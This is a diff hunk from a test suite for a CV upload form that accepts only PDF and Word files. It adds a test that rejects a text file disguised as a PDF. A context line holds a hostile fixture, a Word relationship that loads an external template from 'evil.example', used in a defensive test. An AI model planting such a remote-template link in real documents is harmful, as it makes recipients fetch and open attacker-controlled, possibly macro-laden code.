@@ -55,6 +55,11 @@ describe('a CV is a PDF or a Word file in which nothing runs', () => {
     expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'Choose a file of one of these types: pdf, docx' } } });
   });
 
+  test('a text that calls itself a PDF hears that it is none', async () => {
+    const answer = await apply(Buffer.from('I am Akinyi and I visit homes.'), 'cv.PDF');
+    expect(answer).toMatchObject({ status: 415, json: { fields: { cv: 'This file is not a readable PDF. Scan or export it again.' } } });
+  });
+
   const outside = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
   test.each([
     ['a template from elsewhere', wordFile({ 'word/_rels/settings.xml.rels': `<Relationships>${outside}</Relationships>` })],
